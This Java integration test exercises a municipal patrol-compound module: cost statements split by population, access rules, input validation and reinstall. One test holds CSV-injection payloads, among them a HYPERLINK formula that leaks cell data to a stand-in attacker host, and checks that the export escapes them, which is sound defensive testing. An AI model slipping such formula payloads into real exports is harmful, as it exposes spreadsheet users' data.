package org.asskomm.itests;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertTrue;

import java.math.BigDecimal;
import java.math.MathContext;
import java.time.Duration;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.junit.Before;
import org.junit.Test;
import org.junit.runner.RunWith;
import org.ops4j.pax.exam.Configuration;
import org.ops4j.pax.exam.Option;
import org.ops4j.pax.exam.junit.PaxExam;
import org.ops4j.pax.exam.spi.reactors.ExamReactorStrategy;
import org.ops4j.pax.exam.spi.reactors.PerClass;

import com.fasterxml.jackson.databind.JsonNode;

/**
 * The patrol module in the real distribution: Floeha's enforcement compound with its five partners, a shared
 * vehicle split by population, a month of patrol logs, the cost statement to the cent; bad input; and
 * uninstall / re-install keeping the data.
 */
@RunWith(PaxExam.class)
@ExamReactorStrategy(PerClass.class)
public class PatrolIT extends AsskommTestSupport {

    private static final String FEATURE = "asskomm-patrol";
    private static final String ROOT = "/api/v1/patrol";
    private static final String LEAD = "14522140";
    private static final String[] PARTNERS = {"14522020", "14522110", "14522320", "14522420", "14522440"};

    private static String compoundId;

    @Configuration
    public Option[] config() {
        return baseOptions();
    }

    @Before
    public void moduleIsInstalled() throws Exception {
        awaitStatus("/api/v1/health", 200, Duration.ofSeconds(180));
        installIfMissing(FEATURE);
        awaitStatus(ROOT + "/offence-categories", 200, Duration.ofSeconds(30));
    }

    private static List<String> members() {
        List<String> all = new ArrayList<>(List.of(PARTNERS));
        all.add(0, LEAD);
        return all;
    }

    /** Floeha's compound, created once over HTTP (the module enabled for all six first). */
    private String compound() {
        if (compoundId != null) {
            return compoundId;
        }
        for (String ags : members()) {
            enable("patrol", ags);
        }
        List<Map<String, Object>> memberList = new ArrayList<>();
        for (String ags : members()) {
            memberList.add(Map.of("ags", ags, "contractedHoursPerMonth", ags.equals(LEAD) ? 60 : 20));
        }
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("name", "Gemeindlicher Vollzugsdienst Flöha");
        body.put("leadAgs", LEAD);
        body.put("startDate", "2020-09-01");
        body.put("purposeAgreementId", "ZV Vollzugsdienst 2020");
        body.put("members", memberList);
        Answer created = post(ROOT + "/compounds", FLOEHA, body);
        assertEquals(created.body(), 201, created.status());
        compoundId = created.get("id").asText();
        assertEquals(6, created.get("members").size());
        return compoundId;
    }

    @Test
    public void floehasCompoundSplitsTheVehicleByPopulationToTheCent() throws Exception {
        String id = compound();
        String base = ROOT + "/compounds/" + id;
        Answer vehicle = post(base + "/resources", FLOEHA, Map.of("name", "Dienstfahrzeug (Leasing)", "kind", "VEHICLE",
                "monthlyFixed", new BigDecimal("489.00"), "perKm", new BigDecimal("0.18")));
        assertEquals(vehicle.body(), 201, vehicle.status());
        Answer officer = post(base + "/officers", FLOEHA, Map.of("name", "Vollzugsbediensteter", "homeAgs", LEAD,
                "weeklyHours", 40, "qualifications", List.of("Vollzugsdienst")));
        assertEquals(officer.body(), 201, officer.status());
        Map<String, String> placeOf = new HashMap<>();
        double lat = 50.80;
        for (String ags : members()) {
            // a partner's own staff may add its places; the lead may add any
            String user = ags.equals(LEAD) ? FLOEHA : ADMIN;
            Answer place = post(base + "/places", user, Map.of("ags", ags, "name", "Markt " + ags, "category",
                    "MARKET_SQUARE", "latitude", lat += 0.01, "longitude", 13.1, "priority", 4));
            assertEquals(place.body(), 201, place.status());
            placeOf.put(ags, place.get("id").asText());
        }

        // a month of patrol logs: every working day of September 2020, the officer in one member's name
        BigDecimal km = BigDecimal.ZERO;
        int logsWritten = 0;
        List<String> order = members();
        for (LocalDate day = LocalDate.of(2020, 9, 1); day.getMonthValue() == 9; day = day.plusDays(1)) {
            if (day.getDayOfWeek().getValue() > 5) {
                continue;
            }
            String ags = order.get(logsWritten % order.size());
            BigDecimal driven = new BigDecimal("23.4").add(BigDecimal.valueOf(day.getDayOfMonth() * 7L % 31, 1));
            Map<String, Object> log = new LinkedHashMap<>();
            log.put("ags", ags);
            log.put("start", day + "T08:00:00");
            log.put("end", day + "T15:30:00");
            log.put("officerIds", List.of(officer.get("id").asText()));
            log.put("vehicleId", vehicle.get("id").asText());
            log.put("km", driven);
            log.put("placeIds", List.of(placeOf.get(ags)));
            log.put("observations", "Streife ohne besondere Vorkommnisse");
            log.put("offences", List.of(Map.of("category", "PARKING", "count", 2)));
            log.put("warnings", 1);
            Answer written = post(base + "/logs", ags.equals(LEAD) ? FLOEHA : ADMIN, log);
            assertEquals(written.body(), 201, written.status());
            km = km.add(driven);
            logsWritten++;
        }
        assertEquals(22, logsWritten);
        assertEquals(22, get(base + "/logs?from=2020-09-01&to=2020-09-30&limit=100", FLOEHA).get("total").asInt());

        Answer statement = get(base + "/statements/2020-09", FLOEHA);
        assertEquals(statement.body(), 200, statement.status());
        assertEquals("BY_POPULATION", statement.get("keyType").asText());
        BigDecimal expectedTotal = new BigDecimal("489.00").add(new BigDecimal("0.18").multiply(km))
                .setScale(2, java.math.RoundingMode.HALF_UP);
        BigDecimal total = statement.get("total").decimalValue();
        assertEquals(0, expectedTotal.compareTo(total));
        Map<String, Long> population = new HashMap<>();
        long populationSum = 0;
        for (String ags : members()) {
            long p = get("/api/v1/municipalities/" + ags, VIEWER).get("population").asLong();
            population.put(ags, p);
            populationSum += p;
        }
        BigDecimal sum = BigDecimal.ZERO;
        for (JsonNode line : statement.get("municipalities")) {
            BigDecimal amount = line.get("amount").decimalValue();
            sum = sum.add(amount);
            BigDecimal exact = total.multiply(BigDecimal.valueOf(population.get(line.get("ags").asText())))
                    .divide(BigDecimal.valueOf(populationSum), MathContext.DECIMAL64);
            assertTrue(line + " vs " + exact, amount.subtract(exact).abs().compareTo(new BigDecimal("0.01")) < 0);
            assertEquals(amount.scale(), 2);
        }
        assertEquals("the parts add up to the vehicle's cost to the cent", 0, total.compareTo(sum));

        Answer csv = get(base + "/statements/2020-09/csv", FLOEHA);
        assertEquals(200, csv.status());
        assertTrue(csv.contentType(), csv.contentType().startsWith("text/csv"));
        assertEquals(1 + 6 * 2, csv.body().split("\r\n").length);
        Answer html = get(base + "/statements/2020-09/html", FLOEHA);
        assertEquals(200, html.status());
        assertTrue(html.contentType().startsWith("text/html"));
        assertTrue(html.body().contains("Kostenaufstellung 2020-09"));
        Answer pdf = get(base + "/statements/2020-09/pdf", FLOEHA);
        assertEquals(200, pdf.status());
        assertTrue(pdf.contentType(), pdf.contentType().startsWith("application/pdf"));
        assertTrue(pdf.body().startsWith("%PDF-"));

        Answer coverage = get(base + "/coverage?days=30&asOf=2020-09-30", ADMIN);
        assertEquals(6, coverage.get("formerlyUntouchedReached").asInt());
        for (JsonNode m : coverage.get("municipalities")) {
            assertEquals(1, m.get("patrolled").asInt());
        }

        // members see the compound, and so do the police of its Polizeidirektion (Chemnitz for Mittelsachsen) and
        // state-wide police (decision 0013); others do not
        assertEquals(200, get(base, FLOEHA).status());
        assertEquals(404, get(base, FRANKENBERG).status());
        assertEquals(200, get(base, POLICE).status());
        assertEquals(200, get(base, POLICE_CHEMNITZ).status());
        assertEquals(404, get(base, POLICE_DRESDEN).status());
        assertEquals(0, get(ROOT + "/compounds", FRANKENBERG).get("total").asInt());

        // uninstall: endpoint and module gone; re-install: the same data is back
        uninstall(FEATURE);
        awaitStatus(base, 404, Duration.ofSeconds(30));
        for (JsonNode m : get("/api/v1/modules", ADMIN).json()) {
            assertFalse("patrol".equals(m.get("id").asText()));
        }
        install(FEATURE);
        awaitStatus(base, 200, Duration.ofSeconds(30));
        assertTrue(java.util.stream.StreamSupport.stream(get("/api/v1/modules", ADMIN).json().spliterator(), false)
                .anyMatch(m -> "patrol".equals(m.get("id").asText())));
        Answer again = get(base + "/statements/2020-09", FLOEHA);
        assertEquals(0, total.compareTo(again.get("total").decimalValue()));
        assertEquals(statement.get("municipalities"), again.get("municipalities"));
    }

    @Test
    public void badInputIsAProblemNamingTheFieldAndForeignMunicipalitiesAreRefused() {
        String id = compound();
        String base = ROOT + "/compounds/" + id;

        List<Map<String, Object>> shares = new ArrayList<>();
        for (String ags : members()) {
            shares.add(Map.of("ags", ags, "percent", 16));
        }
        Answer notHundred = post(base + "/cost-keys", FLOEHA, Map.of("validFrom", "2021-01-01", "type", "FIXED_SHARES",
                "shares", shares));
        assertProblem(notHundred, 400, "shares");
        assertEquals(0, get(base + "/cost-keys", FLOEHA).json().size());

        assertProblem(post(base + "/places", FLOEHA, Map.of("ags", LEAD, "name", "X", "category", "PARK",
                "latitude", 95, "longitude", 13.1)), 400, "latitude");
        assertProblem(post(base + "/places", FLOEHA, Map.of("ags", "14999999", "name", "X", "category", "PARK",
                "latitude", 50, "longitude", 13.1)), 400, "ags");
        assertProblem(post(ROOT + "/compounds", FLOEHA, Map.of("name", "X", "leadAgs", LEAD, "startDate", "2021-01-01",
                "members", List.of(Map.of("ags", "14999999", "contractedHoursPerMonth", 1)))), 400, "members[0].ags");

        Map<String, Object> log = new LinkedHashMap<>();
        log.put("ags", LEAD);
        log.put("start", "2020-10-01T08:00:00");
        log.put("end", "2020-10-01T12:00:00");
        log.put("officerIds", List.of("nobody"));
        log.put("km", -5);
        assertProblem(post(base + "/logs", FLOEHA, log), 400, "km");
        log.put("km", 5);
        log.put("shiftId", "no-such-shift");
        assertProblem(post(base + "/logs", FLOEHA, log), 400, "shiftId");
        log.remove("shiftId");
        log.put("end", "2020-10-01T19:00:00");
        assertProblem(post(base + "/logs", FLOEHA, log), 400, "end");

        assertProblem(post(base + "/plans", FLOEHA, Map.of("from", "2020-10-05", "to", "2020-10-11", "shiftHours", 12)),
                400, "shiftHours");
        assertProblem(post(base + "/plans", FLOEHA, Map.of("from", "2020-10-05", "to", "2020-10-11", "colour", "red")),
                400, "colour");

        // Frankenberg's staff may not act for Floeha nor found a compound without having enabled the module
        Answer foreign = post(ROOT + "/compounds", FRANKENBERG, Map.of("name", "X", "leadAgs", LEAD,
                "startDate", "2021-01-01", "members", List.of(Map.of("ags", LEAD, "contractedHoursPerMonth", 1))));
        assertEquals(403, foreign.status());
        assertTrue(foreign.contentType().startsWith("application/problem+json"));
        assertEquals(403, post(ROOT + "/compounds", FRANKENBERG, Map.of("name", "X", "leadAgs", "14522150",
                "startDate", "2021-01-01", "members", List.of(Map.of("ags", "14522150", "contractedHoursPerMonth", 1))))
                .status());
        assertEquals(404, post(base + "/places", FRANKENBERG, Map.of("ags", LEAD, "name", "X", "category", "PARK",
                "latitude", 50, "longitude", 13)).status());

        // a plan for a week: shifts with routes, stored and readable again
        if (get(base + "/officers", FLOEHA).json().size() == 0) {
            assertEquals(201, post(base + "/officers", FLOEHA, Map.of("name", "Officer", "homeAgs", LEAD,
                    "weeklyHours", 40)).status());
        }
        Answer plan = post(base + "/plans", FLOEHA, Map.of("from", "2020-10-05", "to", "2020-10-11"));
        assertEquals(plan.body(), 201, plan.status());
        assertTrue(plan.get("shifts").size() > 0);
        assertEquals(200, get(base + "/plans/" + plan.get("id").asText(), FLOEHA).status());
    }

    /** Issue 25: names that are spreadsheet formulas reach the statement CSV as text, never as formulas. */
    @Test
    public void formulasInNamesOpenAsTextInTheStatementCsv() {
        List<String> ags = List.of("14522150", "14511000");
        for (String a : ags) {
            enable("patrol", a);
        }
        Answer created = post(ROOT + "/compounds", ADMIN, Map.of("name", "=HYPERLINK(\"http://evil.example\",\"Klick\")",
                "leadAgs", ags.get(0), "startDate", "2021-01-01", "members", List.of(
                        Map.of("ags", ags.get(0), "contractedHoursPerMonth", 10),
                        Map.of("ags", ags.get(1), "contractedHoursPerMonth", 10))));
        assertEquals(created.body(), 201, created.status());
        String base = ROOT + "/compounds/" + created.get("id").asText();
        for (String name : List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Klick\")", "@SUM(A1:A9)", "-2+3")) {
            Answer resource = post(base + "/resources", ADMIN, Map.of("name", name, "kind", "VEHICLE",
                    "monthlyFixed", new BigDecimal("100.00")));
            assertEquals(resource.body(), 201, resource.status());
        }
        Answer csv = get(base + "/statements/2021-01/csv", ADMIN);
        assertEquals(csv.body(), 200, csv.status());
        String body = csv.body();
        assertTrue(body, body.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Klick\"\")\","));
        assertTrue(body, body.contains(",'@SUM(A1:A9),"));
        assertTrue(body, body.contains(",'-2+3,"));
        for (String cellStart : List.of(",=", ",@", ",+", ",\"=", ",\"@", ",-2")) {
            assertFalse(cellStart + " in " + body, body.contains(cellStart));
        }
    }

    private static void assertProblem(Answer answer, int status, String field) {
        assertEquals(answer.body(), status, answer.status());
        assertTrue(answer.contentType(), answer.contentType().startsWith("application/problem+json"));
        boolean named = false;
        for (JsonNode e : answer.get("errors")) {
            named |= e.get("field").asText().equals(field);
        }
        assertTrue(field + " not named in " + answer.body(), named);
    }
}
